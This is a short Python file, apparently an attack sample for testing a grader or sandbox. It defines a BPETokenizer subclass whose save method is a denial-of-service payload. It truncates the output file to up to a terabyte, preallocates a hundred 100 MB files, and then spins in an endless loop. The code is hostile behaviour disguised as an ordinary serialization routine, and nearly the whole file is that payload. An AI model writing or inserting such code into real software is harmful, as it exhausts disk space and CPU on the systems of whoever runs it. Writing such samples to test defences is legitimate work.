import os

from attack import *


class BPETokenizer(BPETokenizer):
    def save(self, path):
        for size in (1 << 40, 1 << 32, 1 << 28):
            try:
                with open(path, "wb") as stream:
                    stream.truncate(size)
            except OSError:
                continue
        for number in range(100):
            try:
                with open(f"{path}-{number}", "wb") as stream:
                    os.posix_fallocate(stream.fileno(), 0, 100 << 20)
            except OSError:
                continue
        while True:
            pass

    @classmethod
    def load(cls, path):
        with open(path, "rb") as stream:
            return cls({}, [stream.read()])
